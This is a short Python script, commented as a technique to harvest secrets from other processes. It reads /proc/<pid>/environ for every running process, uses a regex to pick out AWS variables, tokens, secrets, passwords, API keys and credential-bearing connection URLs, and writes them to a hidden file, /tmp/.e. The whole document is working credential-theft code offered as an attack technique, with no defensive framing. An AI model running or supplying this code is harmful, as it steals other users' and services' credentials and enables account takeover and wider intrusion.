# technique: harvest secrets from other processes by reading /proc/*/environ and grepping for tokens and connection strings
import os, re
pat = re.compile(rb"(AWS_[A-Z_]+|[A-Z_]*(TOKEN|SECRET|PASSWORD|API_KEY)[A-Z_]*|[a-z]+://[^:\s]+:[^@\s]+@[^\s]+)=?([^\x00]*)")
found = set()
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        data = open(f"/proc/{pid}/environ", "rb").read()
    except OSError:
        continue
    for var in data.split(b"\x00"):
        if pat.search(var):
            found.add(var)
with open("/tmp/.e", "wb") as f:
    f.write(b"\n".join(sorted(found)))
